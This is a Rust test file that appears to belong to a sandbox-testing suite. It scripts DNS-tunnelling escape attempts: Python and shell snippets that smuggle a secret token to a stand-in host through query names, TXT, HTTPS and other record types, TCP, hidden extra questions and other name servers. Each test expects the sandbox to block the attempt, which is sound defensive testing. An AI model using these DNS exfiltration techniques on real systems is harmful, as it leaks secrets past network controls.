//! DNS as a way out: names that carry data, record types that carry data back, other servers, other transports. The name
//! server of the world remembers every question, and must not have heard the token.

use ringfence_testing::{Answer, DNS, EVIL};

use crate::attempt::attempt;
use crate::row::Row;

pub(crate) fn rows() -> Vec<Row> {
    // The twin asks the world's own server, as the machine's resolver would.
    let kind = |name: &str, number: u16, what: &str| {
        attempt(format!("dns-{name}"), what)
            .grant(["good.test", "*.good.test"])
            .python(&format!(
                "code, answers, reply = ask('{{dns}}', question(wire('{{token}}.tunnel.test'), {number}))\n\
                 if code == 0: escaped('the question went out')\nheld('code %d' % code)"
            ))
            .denied("tunnel.test")
            .unheard()
            .row()
    };
    let mut rows = vec![
        kind("tunnel-name", 1, "carries data out in a name"),
        kind("tunnel-name-v6", 28, "carries data out in a name, asking for IPv6"),
        kind("tunnel-text", 16, "carries data out in a name and back in a text"),
        kind("tunnel-any", 255, "asks for everything about a name"),
        kind("tunnel-null", 10, "asks for a record of raw bytes"),
        kind("tunnel-mail", 15, "asks for a mail server"),
        kind("tunnel-service", 33, "asks for a service"),
        kind("tunnel-https", 65, "asks for an HTTPS record"),
        attempt("dns-text-of-a-granted-name", "carries data back in a text of a granted name")
            .set_up(|internet, _| {
                let text = Answer::Text("orders-from-outside".into());
                internet.dns.set("texts.good.test", [text]);
                Vec::new()
            })
            .grant(["*.good.test"])
            .python(
                "code, answers, reply = ask('{dns}', question(wire('texts.good.test'), 16))\n\
                 if b'orders-from-outside' in reply: escaped('orders came in')\nheld('code %d' % code)",
            )
            .row(),
        attempt("dns-https-of-a-granted-name", "has another address of a granted name from its HTTPS record")
            .set_up(|internet, scene| {
                let hint = EVIL.parse().expect("an address");
                internet.dns.set(&format!("{}.good.test", scene.token), [Answer::Https { hint }]);
                Vec::new()
            })
            .grant(["*.good.test"])
            .python(&format!(
                "code, answers, reply = ask('{{dns}}', question(wire('{{token}}.good.test'), 65))\n\
                 if socket.inet_aton('{EVIL}') in reply: escaped('it has the address')\n\
                 held('code %d, %d answers' % (code, answers))"
            ))
            // A program takes an error for an outage, and nothing for a name without such a record.
            .shows("held: code 0, 0 answers")
            .unheard()
            .row(),
        attempt("dns-tcp", "carries data out in a name, by TCP")
            .grant(["good.test"])
            .python(
                "code, answers, _ = ask('{dns}', question(wire('{token}.tunnel.test')), tcp=True)\n\
                 if code == 0: escaped('the question went out')\nheld('code %d' % code)",
            )
            .denied("tunnel.test")
            .unheard()
            .row(),
        attempt("dns-long-name", "carries as much as a name can hold")
            .grant(["*.good.test"])
            .python(
                "name = wire('a' * 60 + '.' + 'b' * 60 + '.{token}.tunnel.test')\n\
                 code, answers, _ = ask('{dns}', question(name))\n\
                 if code == 0: escaped('the question went out')\nheld('code %d' % code)",
            )
            .unheard()
            .row(),
        attempt("dns-two-questions", "hides a question behind a granted one")
            .grant(["good.test"])
            .python(
                "first = question(wire('good.test'))\n\
                 message = first[:4] + struct.pack('>H', 2) + first[6:] + wire('{token}.tunnel.test') + struct.pack('>HH', 1, 1)\n\
                 code, answers, reply = ask('{dns}', message)\n\
                 if b'tunnel' in reply and answers: escaped('both were answered')\nheld('code %d' % code)",
            )
            .unheard()
            .twin_python(
                "if ask('{dns}', question(wire('{token}.tunnel.test')))[0] == 0: escaped('a question went out')",
            ),
        attempt("dns-chaos", "asks in another class")
            .grant(["good.test"])
            .python(
                "code, answers, _ = ask('{dns}', question(wire('{token}.tunnel.test'), 16, 3))\n\
                 if code == 0: escaped('the question went out')\nheld('code %d' % code)",
            )
            .unheard()
            .row(),
        attempt("dns-extra-bytes", "hides data behind a granted question")
            .grant(["good.test"])
            .python(
                "code, answers, reply = ask('{dns}', question(wire('good.test')) + b'{token}')\n\
                 if b'{token}' in reply: escaped('it was carried')\n\
                 held('code %d' % code)",
            )
            .unheard()
            .twin_python(
                "if ask('{dns}', question(wire('{token}.tunnel.test')))[0] == 0: escaped('a question went out')",
            ),
        attempt("dns-libc", "carries data out through the C library")
            .grant(["good.test"])
            .shell("getent ahosts {token}.tunnel.test")
            .denied("tunnel.test")
            .unheard()
            .row(),
        attempt("dns-lookup-only", "looks names up below a granted wildcard without connecting")
            .set_up(|internet, _| {
                internet.dns.point("*.tunnel.test", &[EVIL]);
                Vec::new()
            })
            .grant(["*.tunnel.test:4242"])
            .python(
                "for part in range(5): ask('{dns}', question(wire('%d.{token}.tunnel.test' % part)))\n\
                 held('asked')",
            )
            .unheard()
            .twin_python(
                "if ask('{dns}', question(wire('{token}.tunnel.test')))[0] == 0: escaped('a question went out')",
            ),
        attempt("wildcard-lookup", "connects below a granted wildcard, whose owner sees the name")
            .grant(["*.tunnel.test:4242"])
            .python("greeted('{token}.tunnel.test')\nescaped('its owner was asked')")
            .unheard()
            .row()
            .not_a_boundary(|_| true),
    ];
    rows.extend(other_servers());
    rows
}

/// Another name server than the sandbox's own.
fn other_servers() -> Vec<Row> {
    let row = |name: &str, what: &str, how: &str| {
        attempt(format!("dns-{name}"), what)
            .grant(["good.test"])
            .python(&format!(
                "code, answers, _ = ask('{DNS}', question(wire('{{token}}.tunnel.test')){how})\n\
                 if code == 0: escaped('the question went out')\nheld('code %d' % code)"
            ))
            .unheard()
            .row()
    };
    vec![
        row("other-server", "asks another name server", ""),
        row("other-server-tcp", "asks another name server by TCP", ", tcp=True"),
        attempt("dns-other-port", "sends the token to a server on any UDP port")
            .grant(["evil.test"])
            .probe(["udp-from-anywhere", "192.0.2.66:4242", "{token}", "welcome"])
            .unheard()
            .row(),
    ]
}
